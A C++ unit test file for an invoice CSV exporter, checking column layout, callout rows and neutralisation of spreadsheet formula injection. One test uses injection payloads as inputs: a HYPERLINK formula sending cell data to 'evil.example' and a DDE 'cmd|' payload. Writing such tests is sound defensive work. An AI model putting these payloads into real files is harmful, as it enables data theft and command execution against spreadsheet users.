#include "gateway/export/csv_export.hpp"

#include <gtest/gtest.h>

#include "export_fixtures.hpp"
#include "gateway/codec/csv.hpp"
#include "gateway/codec/spreadsheet_csv.hpp"

namespace fieldproof::exporter {
namespace {

std::vector<std::string> Columns() {
  std::vector<std::string> out;
  std::string s(kInvoiceCsvColumns);
  for (std::size_t start = 0, comma; start <= s.size(); start = comma + 1) {
    comma = s.find(',', start);
    if (comma == std::string::npos) comma = s.size();
    out.push_back(s.substr(start, comma - start));
  }
  return out;
}

TEST(InvoiceCsv, OneRowPerLineUnderADocumentedHeader) {
  const std::vector<core::Invoice> docs = {testing::SampleInvoice(), testing::SampleCreditNote()};
  const auto parsed = codec::ParseCsv(WriteInvoiceCsv(docs));
  ASSERT_TRUE(parsed.errors.empty());
  ASSERT_EQ(parsed.records.size(), 1 + docs[0].lines.size() + docs[1].lines.size());
  const auto columns = Columns();
  EXPECT_EQ(parsed.records[0].fields, columns);
  auto field = [&](std::size_t row, const std::string& name) {
    const auto at = std::find(columns.begin(), columns.end(), name) - columns.begin();
    return parsed.records[row].fields.at(static_cast<std::size_t>(at));
  };
  for (const auto& r : parsed.records)
    EXPECT_EQ(r.fields.size(), columns.size()) << "line " << r.line;
  EXPECT_EQ(field(1, "document_number"), "FP-INV-000001");
  EXPECT_EQ(field(1, "item_name"), "Verified inspection, fire_shutter");  // Quoted: has a comma.
  EXPECT_EQ(field(1, "unit_price"), "48.00");
  EXPECT_EQ(field(1, "maintenance_records"), "FRA#1");
  EXPECT_EQ(field(1, "evidence_taps"), "10:11");
  EXPECT_EQ(field(1, "document_total"), core::FormatAmount(docs[0].totals.payable));
  const std::size_t first_credit = 1 + docs[0].lines.size();
  EXPECT_EQ(field(first_credit, "document_type"), "credit_note");
  EXPECT_EQ(field(first_credit, "type_code"), "381");
  EXPECT_EQ(field(first_credit, "preceding_invoice"), "FP-INV-000001");
  EXPECT_EQ(field(first_credit, "line_no"), "2");
}

TEST(InvoiceCsv, CalloutRowsListEveryRecordOfTheDay) {
  const std::vector<core::Invoice> docs = {testing::SampleInvoice()};
  const auto parsed = codec::ParseCsv(WriteInvoiceCsv(docs));
  const auto columns = Columns();
  const auto kind = std::find(columns.begin(), columns.end(), "line_kind") - columns.begin();
  const auto records =
      std::find(columns.begin(), columns.end(), "maintenance_records") - columns.begin();
  bool found = false;
  for (const auto& r : parsed.records) {
    if (r.fields[kind] == "callout" && r.fields[records] == "FRA#1;FRA#3") found = true;
  }
  EXPECT_TRUE(found) << "T-0001 worked FRA#1 and FRA#3 on 2026-11-03 (local)";
}

// Security review (issue 17): contract and buyer fields are copied into the CSV that billing
// staff open in spreadsheets. Text that would start a formula is neutralised (OWASP); amounts
// stay numbers, negative ones too.
TEST(InvoiceCsv, TextThatWouldStartAFormulaIsNeutralisedNumbersAreNot) {
  core::Invoice invoice = testing::SampleInvoice();
  invoice.buyer.name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
  invoice.buyer.vat_id = "+DE987654321";
  invoice.buyer_reference = "-2+3+cmd|' /C calc'!A0";
  invoice.purchase_order = "@SUM(1+1)";
  invoice.contract_id = "\t=1+2";
  invoice.customer_id = "\r=1+2";
  invoice.lines.front().net = -1250;  // A credit shows as -12.50.
  invoice.totals.payable = -1250;
  const std::vector<core::Invoice> docs = {invoice};
  const std::string csv = WriteInvoiceCsv(docs);
  const auto parsed = codec::ParseCsv(csv);
  ASSERT_TRUE(parsed.errors.empty());
  const auto columns = Columns();
  auto field = [&](const std::string& name) {
    const auto at = std::find(columns.begin(), columns.end(), name) - columns.begin();
    return parsed.records.at(1).fields.at(static_cast<std::size_t>(at));
  };
  EXPECT_EQ(field("buyer_name"), "'" + invoice.buyer.name);
  EXPECT_EQ(field("buyer_vat_id"), "'+DE987654321");
  EXPECT_EQ(field("buyer_reference"), "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(field("purchase_order"), "'@SUM(1+1)");
  EXPECT_EQ(field("contract_id"), "'\t=1+2");
  EXPECT_EQ(field("customer_id"), "'\r=1+2");
  EXPECT_EQ(field("line_net"), "-12.50");
  EXPECT_EQ(field("document_total"), "-12.50");
  EXPECT_EQ(field("line_no"), "1");
  EXPECT_EQ(field("vat_rate"), "19.00");
  // Text cells are quoted; numbers are bare, so a spreadsheet can add them up.
  EXPECT_NE(csv.find(",\"'+DE987654321\","), std::string::npos) << csv;
  EXPECT_NE(csv.find(",-12.50,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",-12.50\r\n"), std::string::npos) << csv;
  // No cell of any row begins with a formula character.
  for (const auto& record : parsed.records) {
    for (const auto& cell : record.fields) {
      const bool number = cell.find_first_not_of("-.0123456789") == std::string::npos;
      EXPECT_TRUE(number || !codec::StartsFormula(cell)) << cell;
    }
  }
}

}  // namespace
}  // namespace fieldproof::exporter
